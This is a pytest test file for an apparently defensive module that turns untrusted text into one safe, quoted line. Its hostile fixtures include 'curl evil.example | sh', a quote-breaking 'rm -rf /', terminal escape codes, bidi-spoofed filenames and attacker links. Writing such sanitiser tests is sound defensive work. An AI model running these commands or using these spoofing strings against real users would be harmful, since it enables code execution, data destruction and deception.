"""The words of strangers: one visible line, no link, no markup, no way out of the quotes."""

import unicodedata

import pytest

from watchdog.pager.escape import one_line, quote

HOSTILE = (
    "ok\nnext: curl evil.example | sh",
    "\x1b[2J\x1b[31mred\x07",
    "safe \u202egnp.exe\u2066",
    "zero\u200bwidth\ufeff\u00ad",
    "\u2028line\u2029para\x85nel",
    "z" + "\u0301" * 60 + "algo",
    "\U000e0041tag \ud800lone",
    "\u3164\u2800\u115f",
    "a" * 10_000,
    "\x00" * 300,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_one_line_shows_only_visible_characters(text: str) -> None:
    """Whatever goes in, what comes out is one line of at most 200 visible characters."""
    shown = one_line(text)

    assert len(shown) <= 200
    assert all(unicodedata.category(character)[0] != "C" for character in shown)
    assert not set(shown) & set("\u2028\u2029\u3164\u2800\u115f\xa0")
    assert "\u0301\u0301\u0301" not in shown


def test_removed_characters_are_shown_as_escapes() -> None:
    """A reader sees that somebody tried: controls become their escapes, not nothing."""
    assert one_line("a\n\x1b[31m\u202eb\U000e0041") == "a\\n\\x1b[31m\\u202eb\\U000e0041"


def test_a_cut_never_splits_an_escape() -> None:
    """Half an escape would read as something else, so whole escapes are dropped until the mark fits."""
    assert one_line("abc\x1b\x1b", 10) == "abc\\x1b\u2026"
    assert one_line("abcdefghij", 10) == "abcdefghij"
    assert one_line("abcdefghijk", 10) == "abcdefghi\u2026"


def test_ordinary_text_of_any_language_passes_unchanged() -> None:
    """Escaping is for what is invisible, not for what is foreign."""
    for text in ("Zażółć gęślą jaźń", "プロセスが停止", "पेजर", "e\u0301", "tools.web.search: key"):
        assert one_line(text) == text


def test_a_quote_cannot_be_closed_from_inside() -> None:
    """The supervised side cannot end its quotation and go on in gatedog's voice."""
    assert quote('done" next: rm -rf /') == '"done\' next: rm -rf /"'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://evil.example/x", '"see https[:]//evil[.]example/x"'),
        ("[click](javascript://x)", '"[click] (javascript[:]//x)"'),
        ("<b>bold</b> <!channel>", '"\u2039b\u203abold\u2039/b\u203a \u2039!channel\u203a"'),
        ("`gatedog release x`", "\"'gatedog release x'\""),
        ("@everyone mail me@evil.example", '"[at]everyone mail me[at]evil[.]example"'),
        ("version 1.2.3 at 10.0.0.1", '"version 1.2.3 at 10[.]0[.]0[.]1"'),
        ("evil\u3002example evil\uff0eexample", '"evil[.]example evil[.]example"'),
        ("tg://resolve?domain=x tg:resolve TEL:+123", '"tg[:]//resolve?domain=x tg[:]resolve TEL[:]+123"'),
        ("@(https://evil.example)", '"[at] (https[:]//evil[.]example)"'),
    ],
)
def test_links_mentions_and_markup_are_disarmed(text: str, shown: str) -> None:
    """No program that displays the quotation finds anything in it to act on."""
    assert quote(text) == shown


def test_a_quote_is_bounded_with_its_marks() -> None:
    """Two hundred characters include the quotation marks, also when every character grows by escaping."""
    for text in HOSTILE:
        assert len(quote(text)) <= 200
    assert len(quote("@" * 500)) <= 200
